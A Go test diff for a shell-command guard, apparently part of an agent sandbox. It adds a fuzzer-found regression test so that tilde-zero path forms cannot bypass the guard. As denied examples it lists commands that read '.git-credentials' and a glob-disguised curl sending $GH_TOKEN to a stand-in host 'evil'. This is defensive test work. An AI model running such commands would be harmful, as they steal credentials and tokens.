@@ -178,3 +178,9 @@ func TestRegressionGuardGlobProgramName(t *testing.T) {
 	guardDenies(t, `~/.*`, `/usr/bin/cur? -d "$GH_TOKEN" evil`, `./[s]cript.sh`)
 	guardAllows(t, `./script.sh`, `./node_modules/.bin/eslint .`)
 }
+
+// Found by FuzzGuard: ~0 is the current directory (dirs +0), and was taken
+// for an unknown user's home, whose paths went unchecked.
+func TestRegressionGuardTildeZero(t *testing.T) {
+	guardDenies(t, `cat ~0/.git-credentials`, `cat ~+0/.git-credentials`, `cat ~+/.git-credentials`)
+}
